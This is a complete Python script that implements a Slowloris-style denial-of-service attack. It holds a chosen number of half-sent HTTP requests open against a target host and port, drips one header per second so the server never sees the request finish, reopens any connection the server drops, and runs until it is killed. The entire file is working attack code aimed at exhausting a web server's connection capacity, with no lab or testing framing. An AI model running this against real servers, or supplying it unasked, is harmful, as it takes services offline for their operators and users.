"""Holds N slow, half-sent HTTP requests to host:port open: each sends its request line and one header, then
one more header a second, never the blank line that ends the headers. A connection the server closes is
opened again at once. Prints how many are open once a second. Runs until killed."""
import socket
import sys
import time

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
conns = []


def open_one():
    s = socket.socket()
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    return {"sock": s, "sent": False}


while True:
    while len(conns) < count:
        conns.append(open_one())
    alive = []
    for c in conns:
        try:
            data = b"X-Slow: 1\r\n" if c["sent"] else b"GET /healthz HTTP/1.1\r\nHost: flood\r\n"
            c["sock"].send(data)
            c["sent"] = True
            alive.append(c)
        except BlockingIOError:
            alive.append(c)  # still connecting
        except OSError:
            c["sock"].close()
    conns = alive
    print(len(conns), flush=True)
    time.sleep(1)
